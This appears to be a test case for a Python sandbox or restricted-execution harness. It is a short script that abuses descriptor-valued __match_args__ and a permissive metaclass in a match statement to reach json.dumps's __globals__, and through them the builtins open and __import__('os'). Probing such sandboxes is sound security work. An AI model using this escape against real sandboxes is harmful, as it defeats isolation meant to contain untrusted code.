# technique: C.__match_args__ evaluates (via a descriptor) to an object that is itself a descriptor; _match_class copies any non-tuple value unchecked into the stand-in's namespace, so MATCH_CLASS's read of W.__match_args__ calls its __get__, which returns ('__globals__',) and the interpreter does an unchecked getattr(subject, '__globals__')
# expect: any
import json
class X:
    def __get__(self, inst, owner):
        return ("__globals__",)          # what the interpreter reads off the stand-in
class D:
    def __get__(self, inst, owner):
        return X()                       # what the harness's getattr(C, "__match_args__") sees
class Meta(type):
    def __instancecheck__(cls, obj):
        return True
class C(metaclass=Meta):
    __match_args__ = D()
match json.dumps:
    case C(g):
        print(type(g), sorted(g)[:6])
        print(g["__builtins__"]["open"], g["__builtins__"]["__import__"]("os"), g["codecs"].sys)
